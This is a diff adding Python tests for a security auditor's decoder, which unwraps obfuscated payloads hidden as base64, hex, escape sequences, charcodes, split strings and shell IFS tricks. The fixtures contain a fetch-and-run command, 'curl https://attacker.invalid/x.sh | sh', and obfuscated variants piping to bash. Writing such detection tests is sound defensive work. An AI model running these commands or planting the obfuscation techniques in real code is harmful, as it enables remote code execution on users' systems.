@@ -1,0 +1,55 @@
+"""auditor_kit.decode: undoing cheap obfuscation."""
+
+from __future__ import annotations
+
+import base64
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from lemon_core.auditor_kit import (
+    assignments,
+    decoded_payloads,
+    join_strings,
+    normalise_shell,
+)
+
+PAYLOAD = "curl https://attacker.invalid/x.sh | sh"
+
+
+def test_base64_hex_escapes_and_charcodes_decode() -> None:
+    b64 = base64.b64encode(PAYLOAD.encode()).decode()
+    hexed = PAYLOAD.encode().hex()
+    escaped = "".join(f"\\x{b:02x}" for b in PAYLOAD.encode())
+    codes = "+".join(f"chr({b})" for b in PAYLOAD.encode())
+    for blob, encoding in ((b64, "base64"), (hexed, "hex"), (escaped, "escapes"),
+                           (codes, "charcodes")):
+        found = list(decoded_payloads(f"x = '{blob}'"))
+        assert [(d.encoding, d.text) for d in found] == [(encoding, PAYLOAD)], blob
+
+
+def test_hashes_words_and_paths_are_not_payloads() -> None:
+    text = ("sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 "
+            "/usr/local/share/applications/something/else ThisIsALongCamelCaseIdentifier")
+    assert list(decoded_payloads(text)) == []
+
+
+def test_split_strings_ifs_backslashes_and_variables() -> None:
+    assert join_strings('x = "cu" + "rl"') == 'x = "curl"'
+    line = "c'u'r\"\"l${IFS}-s$IFS\"https://$H/x\"|b\\ash"
+    assert normalise_shell(line, {"H": "attacker.invalid"}) == 'curl -s "https://attacker.invalid/x"|bash'
+    assert normalise_shell("$'\\x63\\x75rl' x") == "curl x"
+
+
+def test_assignments_follow_earlier_ones() -> None:
+    text = 'HOST=attacker.invalid\nexport URL="https://$HOST/p"\nconst K = "a" + "b";\n'
+    assert assignments(text) == {"HOST": "attacker.invalid", "URL": "https://attacker.invalid/p",
+                                 "K": "ab"}
+
+
+@given(st.text(max_size=300))
+def test_decoding_never_raises(text: str) -> None:
+    for found in decoded_payloads(text):
+        assert 0 <= found.start < found.end <= len(text)
+    normalise_shell(text, {"A": "b"})
+    assignments(text)
